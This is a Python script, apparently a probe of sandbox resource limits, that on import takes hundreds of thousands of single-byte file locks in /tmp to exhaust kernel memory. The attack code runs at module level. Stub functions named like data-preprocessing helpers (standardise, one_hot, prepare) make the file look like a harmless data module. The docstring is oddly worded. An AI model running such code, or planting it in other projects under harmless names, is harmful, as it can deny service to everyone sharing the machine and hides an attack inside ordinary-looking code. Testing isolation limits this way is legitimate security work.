"""Tries to hold kernel memory in records of locks, of which each takes two hundred bytes that many kernels
count for nobody: hundreds of thousands, on single bytes of files of its own; gains nothing because locks
are refused, or their number is bounded by its processor time.
"""

import fcntl
import time

MOST, FILES = 400_000, 400
print("attack: locking bytes", flush=True)
held, kept = 0, []
end = time.monotonic() + 3
try:
    for number in range(FILES):
        file = open(f"/tmp/locked{number}", "wb")
        for place in range(0, 2 * MOST // FILES, 2):  # with gaps, or they would be one lock
            fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, place)
            held += 1
        kept.append(file)
        if time.monotonic() > end:
            break
except OSError as error:
    print("attack: refused:", error, flush=True)
print(f"attack: {held} locks", flush=True)
if held > 100_000:
    print("attack: took more than 100,000 locks", flush=True)


def split_indices(*args, **kwargs):
    return None


channel_statistics = standardise = one_hot = prepare = split_indices
